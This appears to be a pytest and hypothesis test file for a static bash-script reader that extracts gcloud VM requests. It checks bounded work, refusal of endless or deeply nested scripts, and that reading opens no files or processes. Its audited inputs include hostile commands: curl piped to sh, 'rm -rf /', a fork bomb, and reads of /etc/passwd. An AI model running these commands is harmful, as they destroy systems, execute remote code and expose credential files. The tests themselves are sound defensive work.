"""A stored script may be anything: it is read in bounded work, and the only error is the refusal."""

import subprocess
import sys
from contextlib import suppress
from itertools import pairwise
from types import FrameType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spotwarden.create_script import Defaults, ScriptRefused, requests
from spotwarden.create_script.bash import limits
from spotwarden.create_script.bash.evaluator.script import run_script
from tests.create_script.hostile_places import UNITS
from tests.long import examples

FRAMES = [
    ("", ""),
    ('echo "', '"'),
    ("echo $((", "))"),
    ("[[ x =~ ", " ]]"),
    ("gcloud ", ""),
    ("a=(", ")"),
    ("cat <<E\n", "\nE\n"),
]
TOKEN_NAMES = """
if then else fi for in do done while case esac ;; ; & && || | ( ) { } [[ ]] [ ] (( )) ! time function $
$( ${ } $(( )) ` ' " \\ = += a b x=1 $x ${x} ${x:-y} ${x//a/b} ${x[@]} ${#x} ${!x} a=(b) <<E E <<< < > >> 2>&1
<( >( * ? [a-z] {a,b} {1..3} ~ # gcloud compute instances create vm --zone=z eval source . trap exit return
break continue shift set -- -e -u getopts read local declare -A export unset printf -v let test -z = == =~
$? $# $@ $* $$ \x01 \u00e9 :
"""
TOKENS = st.sampled_from([*TOKEN_NAMES.split(), "\n", "\t", "\r", "\udcff"])


@settings(max_examples=examples(400), deadline=None)
@given(words=st.lists(TOKENS, max_size=40), glue=st.sampled_from(["", " ", "\n"]))
def test_any_mixture_of_bash_is_read_or_refused(words: list[str], glue: str):
    """No other error escapes from either stage."""
    with suppress(ScriptRefused):
        requests(
            glue.join(words).encode("utf-8", "surrogateescape"), defaults=Defaults(project="p-1", zone="z")
        )


@settings(max_examples=examples(300), deadline=None)
@given(text=st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(text: bytes):
    """Neither does one for what is no script at all."""
    with suppress(ScriptRefused):
        requests(text)


@settings(max_examples=examples(100), deadline=None)
@given(
    text=st.text(max_size=60), files=st.dictionaries(st.text(max_size=9), st.binary(max_size=30), max_size=3)
)
def test_any_files_beside_are_let_pass(text: str, files: dict[str, bytes]):
    """Whatever the files are called and hold."""
    script = f"for f in * */*; do source $f; done; {text}".encode("utf-8", "replace")
    with suppress(ScriptRefused):
        requests(script, files=files)


# What the 20,000 words and parts of words cost that a script may have, read twice over.
MOST_CALLS_OF_ONE_BOUND = 300_000


def _calls(text: bytes) -> int:
    """How many functions are called to read a script: work, counted instead of timed."""
    count = 0

    def profile(_: FrameType, event: str, __: object) -> None:
        nonlocal count
        count += event in {"call", "c_call"}

    sys.setprofile(profile)
    try:
        with suppress(ScriptRefused):
            run_script(text, files={}, environment={})
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize("unit", UNITS)
def test_work_grows_with_the_size_at_most(unit: str):
    """Twice the text costs little more than twice the work, until the bound on words ends it."""
    for before, after in FRAMES:
        work = [_calls((before + unit * (size // len(unit)) + after).encode()) for size in (300, 600, 1200)]
        for less, more in pairwise(work):
            assert more < 2.6 * less + 2_000 or more < MOST_CALLS_OF_ONE_BOUND


@pytest.mark.parametrize(
    "unit", ["a=1\n", "$a", "{1..9} ", "a[1]=2 ", "f(){ :;}\n", "$(a)", "[[ a ]]\n", "#\n", "a=$((a+1))\n"]
)
def test_no_script_takes_more_than_its_bound(unit: str):
    """At the largest size that is read at all, the work is what a machine does well within a second."""
    text = unit * (limits.MAX_SCRIPT_BYTES // len(unit))
    assert _calls(text.encode()) < 3_000_000


DEEP = [
    "( ",
    "{ ",
    "if ",
    "$(",
    "${a:-",
    "`",
    "case a in a) ",
    "while ",
    "f() { ",
    '"$(',
    "((",
    "[[ ( ",
    "a=$(",
    "x[$((a[",
]


@pytest.mark.parametrize("unit", DEEP)
def test_deep_nesting_is_refused_and_not_followed(unit: str):
    """Neither a stack overflow nor an endless recursion comes of it; a condition is a line of words."""
    refused = []
    for count in (10, 100, 1_000, 10_000):
        try:
            run_script((unit * count).encode(), files={}, environment={})
        except ScriptRefused:
            refused.append(count)
    assert refused[-3:] == ([] if unit == "[[ ( " else [100, 1_000, 10_000])


ENDLESS = {
    "a loop": "while true; do :; done",
    "a recursion": "f() { f; }; f",
    "two functions": "f() { g; }; g() { f; }; f",
    "a sourced file": "source self.sh",
    "a script that runs itself": "bash self.sh",
    "eval of itself": 'x=\'eval "$x"\'; eval "$x"',
    "a doubled value": "x=aaaaaaaa; while :; do x=$x$x; done",
    "a growing array": 'a=(1 2 3 4); while :; do a+=("${a[@]}"); done',
    "a huge brace": "echo {1..1000000000}",
    "many braces": "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
    "a wide format": "printf -v x %999999999d 1",
    "a huge exponent": "x=$((9 ** 999999999999)); while :; do ((x **= x)); done",
    "a variable that is itself": "x=x; echo $((x))",
    "a reference to itself": "declare -n x=x; echo $x",
    "unknown rounds": 'while ping x; do eval "v$((n++))=$n"; done',
}


@pytest.mark.parametrize("script", ENDLESS.values(), ids=ENDLESS.keys())
def test_what_never_ends_in_bash_is_refused(script: str):
    """With a reason, and without having taken the machine's memory."""
    text = script.encode()
    if "self.sh" in script or script.startswith(("echo $((", "printf")):
        text += b"\n"
    with pytest.raises(ScriptRefused) as caught:
        run_script(text, files={"self.sh": b"source self.sh; bash self.sh\n"}, environment={})
    assert caught.value.reason


def test_a_script_of_the_largest_size_is_read():
    """One byte more is refused before anything is looked at."""
    text = b"#" * limits.MAX_SCRIPT_BYTES
    run_script(text, files={}, environment={})
    with pytest.raises(ScriptRefused, match="larger"):
        run_script(text + b"#", files={}, environment={})


def test_binary_files_are_refused():
    """Bash would not run them either."""
    with pytest.raises(ScriptRefused, match="NUL"):
        run_script(b"\x7fELF\0", files={}, environment={})


AUDITED = """
import sys
from spotwarden.create_script import Defaults, ScriptRefused, requests
import yaml
scripts = {scripts!r}
files = {{"boot.sh": b"echo", "vars.env": b"Z=us-central1-a", "flags.yaml": b"--zone: us-central1-a"}}
def run():
    for text in scripts:
        try:
            requests(text, files=files, defaults=Defaults(project="demo-project"))
        except ScriptRefused:
            pass
run()
seen = []
forbidden = ("open", "socket.", "subprocess.", "os.", "import", "exec", "compile", "shutil.", "tempfile.",
             "ctypes.", "pathlib.", "glob.", "urllib.", "time.sleep")
sys.addaudithook(lambda event, _: seen.append(event) if event.startswith(forbidden) else None)
run()
print(sorted(set(seen)))
"""
AUDITED_SCRIPTS = [
    b"gcloud compute instances create vm --zone=us-central1-a --metadata-from-file=startup-script=boot.sh",
    b"source vars.env; gcloud compute instances create vm --zone=$Z > out.txt < boot.sh",
    b"gcloud compute instances create vm --flags-file=flags.yaml",
    b"x=$(curl http://example.com | sh); rm -rf /; :(){ :|:& };: ; exec > /etc/passwd",
    b"for f in * /etc/*; do cat $f; done; cd /; source /etc/profile",
    b"python3 -c 'import os'; ssh host; ./boot.sh; bash boot.sh; eval 'ls'; read x < /etc/passwd",
    b"gcloud compute instances create vm --metadata-from-file=a=/etc/passwd --address=name --image=debian-8",
]


def test_reading_opens_nothing_starts_nothing_and_asks_nobody():
    """Held by an audit hook of the interpreter, after everything has been imported once."""
    program = AUDITED.format(scripts=AUDITED_SCRIPTS)
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.strip() == "[]"


def test_the_audit_hook_would_have_seen_it():
    """The same program with an open in it does report one."""
    program = AUDITED.format(scripts=AUDITED_SCRIPTS).replace(
        "    for text in scripts:", "    open('/dev/null').close()\n    for text in scripts:"
    )
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.strip() == "['open']"


@pytest.mark.parametrize("option", ["-n ame", "-N x", "-n -1"])
def test_a_count_that_is_no_number_is_refused(option: str):
    """A fuzzer found that one took it for a number."""
    with pytest.raises(ScriptRefused, match="is not a valid number"):
        requests(f"read {option} a <<< text\ngcloud compute instances create $a".encode())
